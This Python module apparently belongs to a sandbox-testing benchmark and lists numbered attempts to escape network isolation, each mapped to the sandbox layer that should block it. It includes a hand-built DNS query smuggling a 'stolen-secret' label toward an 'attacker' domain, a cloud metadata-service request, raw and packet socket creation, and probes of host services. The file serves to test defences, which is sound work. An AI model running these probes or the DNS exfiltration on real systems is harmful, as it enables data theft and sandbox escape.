"""Attempts to reach a network: the host's own services, its sockets without files, names and metadata."""

from __future__ import annotations

from joule.bench.attacks import outside
from joule.bench.attacks.attack import Attack, Given, Siege, Wall


def connect_to_a_service_of_the_host(given: Given) -> object:
    import socket

    with socket.create_connection(("127.0.0.1", given["port"]), timeout=5) as line:
        return line.recv(100)


def send_a_datagram_to_the_host(given: Given) -> object:
    import socket

    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.settimeout(5)
        line.connect(("127.0.0.1", given["datagrams"]))  # to hear at once that nobody listens
        line.send(b"question")
        return line.recv(100)


def carry_a_secret_out_in_a_name(given: Given) -> object:
    import socket
    import struct

    name = b"".join(struct.pack("B", len(part)) + part for part in (b"stolen-secret", b"attacker", b"test"))
    question = struct.pack(">6H", 7, 0x0100, 1, 0, 0, 0) + name + b"\0" + struct.pack(">2H", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.settimeout(5)
        line.connect(("127.0.0.1", given["datagrams"]))
        line.send(question)
        return line.recv(512)


def ask_the_metadata_service(given: Given) -> object:
    import urllib.request

    return urllib.request.urlopen(f"http://127.0.0.1:{given['metadata']}/latest/meta-data/", timeout=5).read()


def connect_to_a_socket_without_a_file(given: Given) -> object:
    import socket

    with socket.socket(socket.AF_UNIX) as line:
        line.connect("\0" + given["abstract"])
        return line.recv(100)


def see_who_listens_on_the_host(given: Given) -> object:
    return f":{given['port']:04X} " in open("/proc/self/net/tcp").read() and "the host's service is listed"


def serve_on_every_address(given: Given) -> object:
    import socket

    with socket.socket() as line:
        line.bind(("", 0))
        line.listen()
        return line.getsockname()


def speak_of_routes_with_the_kernel(given: Given) -> object:
    import socket

    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as line:
        line.bind((0, 0))
        return line.getsockname()


def see_packets_of_others(given: Given) -> object:
    import socket

    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3) as line:
        return line.getsockname()


def write_packets_by_hand(given: Given) -> object:
    import socket

    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as line:
        return line.getsockname()


def use_the_later_protocol(given: Given) -> object:
    import socket

    with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as line:
        return line.fileno() > 0


def use_a_family_nobody_needs(given: Given) -> object:
    import socket

    made = []
    for family in range(46):
        if family != socket.AF_UNIX:
            for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
                try:
                    socket.socket(family, kind).close()
                    made.append(family)
                except OSError:
                    continue
    return made


BOTH = (Wall.FILTER, Wall.NETWORK)
_RAW = (Wall.FILTER, Wall.CAPABILITIES, Wall.NAMESPACES)
ATTACKS: tuple[Attack | Siege, ...] = (
    Attack(number="14", run=connect_to_a_service_of_the_host, walls=BOTH),
    Attack(number="15", run=send_a_datagram_to_the_host, walls=BOTH),
    Attack(number="16", run=connect_to_a_socket_without_a_file, walls=(Wall.NETWORK,)),
    Attack(number="17", run=carry_a_secret_out_in_a_name, walls=BOTH),
    Attack(number="18", run=speak_of_routes_with_the_kernel, walls=(Wall.FILTER,)),
    Attack(number="18a", run=see_packets_of_others, walls=_RAW),
    Attack(number="18b", run=write_packets_by_hand, walls=_RAW),
    Attack(number="18c", run=use_a_family_nobody_needs, walls=(Wall.FILTER,)),
    Attack(number="18d", run=use_the_later_protocol, walls=(Wall.FILTER,)),
    Attack(number="18e", run=serve_on_every_address, walls=(Wall.FILTER,)),
    Attack(number="19", run=ask_the_metadata_service, walls=BOTH),
    Attack(number="19a", run=see_who_listens_on_the_host, walls=(Wall.NETWORK,)),
    *outside.SIEGES,
)
